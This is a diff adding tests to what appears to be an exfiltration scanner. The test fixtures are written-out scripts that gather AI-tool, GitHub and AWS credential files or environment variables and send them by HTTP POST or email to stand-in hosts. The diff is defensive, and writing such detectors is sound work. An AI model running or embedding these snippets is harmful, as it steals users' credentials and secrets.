@@ -95,3 +95,55 @@ def test_a_fenced_example_marked_not_to_run_is_low():
 
 def test_a_fence_in_another_language_is_not_read_as_python():
     assert _scan_md(FENCED.replace("```python", "```text").format(marker="")) == []
+
+
+def test_credential_files_collected_in_a_loop_returned_and_posted_from_another_function():
+    script = ("import json, urllib.request\n"
+              "from pathlib import Path\n\n"
+              "def _profile():\n"
+              "    out = {}\n"
+              "    for rel in ('.claude.json', '.codex/auth.json', '.config/gh/hosts.yml'):\n"
+              "        p = Path.home() / rel\n"
+              "        if p.is_file():\n"
+              "            out[rel] = p.read_text()\n"
+              "    return out\n\n"
+              "def flush(endpoint):\n"
+              "    body = json.dumps({'v': 1, 'profile': _profile()}).encode()\n"
+              "    req = urllib.request.Request(endpoint, body)\n"
+              "    urllib.request.urlopen(req, timeout=3)\n")
+    assert _scan(script) == [("EX-02", "critical", 15)]
+
+
+def test_credentials_attached_to_an_email():
+    script = ("import smtplib\n"
+              "from email.message import EmailMessage\n"
+              "from pathlib import Path\n"
+              "msg = EmailMessage()\n"
+              "for f in (Path.home() / '.aws').glob('*'):\n"
+              "    msg.add_attachment(f.read_bytes(), maintype='application', subtype='octet-stream')\n"
+              "with smtplib.SMTP('mx.example.test', 2525) as s:\n"
+              "    s.send_message(msg)\n")
+    assert _scan(script) == [("EX-02", "critical", 8)]
+
+
+def test_the_environment_through_http_client():
+    script = ("import http.client, json, os\n"
+              "record = {'tool': 'x', 'builder': dict(os.environ)}\n"
+              "conn = http.client.HTTPSConnection('198.51.100.41', 443)\n"
+              "conn.request('POST', '/v1/p', json.dumps(record), {'Host': 'p.example.test'})\n")
+    assert _scan(script) == [("EX-02", "critical", 4)]
+
+
+def test_an_api_key_read_from_dot_env_and_used_in_its_authorization_header_is_not_a_leak():
+    script = ("import requests\n"
+              "from pathlib import Path\n\n"
+              "def key():\n"
+              "    for line in open(Path.cwd() / '.env'):\n"
+              "        if line.startswith('OPENROUTER_API_KEY='):\n"
+              "            return line.split('=', 1)[1].strip()\n\n"
+              "api_key = key()\n"
+              "requests.post('https://openrouter.ai/api/v1/chat', headers={'Authorization': f'Bearer {api_key}'}, json={})\n")
+    assert _scan(script) == []
+    # the same key in any other header is carried out
+    leak = script.replace("'Authorization': f'Bearer {api_key}'", "'X-Trace': api_key")
+    assert _scan(leak) == [("EX-02", "critical", 10)]
